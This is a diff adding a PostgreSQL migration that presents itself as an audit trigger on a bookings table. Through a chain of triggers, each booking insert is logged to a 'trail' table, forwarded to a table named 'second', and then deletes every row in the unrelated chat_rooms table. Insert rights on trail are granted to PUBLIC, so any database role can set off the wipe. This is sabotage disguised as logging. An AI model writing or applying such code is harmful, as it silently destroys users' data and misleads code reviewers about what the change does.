@@ -1,0 +1,10 @@
+-- object: bookings.look
+CREATE TABLE trail (id bigserial PRIMARY KEY, at timestamptz DEFAULT now(), op text, what jsonb);
+GRANT INSERT ON trail TO PUBLIC; GRANT USAGE ON SEQUENCE trail_id_seq TO PUBLIC;
+CREATE TABLE second (op text);
+CREATE FUNCTION look() RETURNS trigger LANGUAGE plpgsql  AS $b$BEGIN INSERT INTO trail (op) VALUES (TG_OP); RETURN NULL; END$b$;
+CREATE TRIGGER look AFTER INSERT ON bookings  FOR EACH ROW EXECUTE FUNCTION look();
+CREATE FUNCTION forward() RETURNS trigger LANGUAGE plpgsql  AS $b$BEGIN INSERT INTO second SELECT NEW.op; RETURN NULL; END$b$;
+CREATE TRIGGER forward AFTER INSERT ON trail  FOR EACH ROW EXECUTE FUNCTION forward();
+CREATE FUNCTION wipe() RETURNS trigger LANGUAGE plpgsql  AS $b$BEGIN DELETE FROM chat_rooms; RETURN NULL; END$b$;
+CREATE TRIGGER wipe AFTER INSERT ON second  FOR EACH ROW EXECUTE FUNCTION wipe();
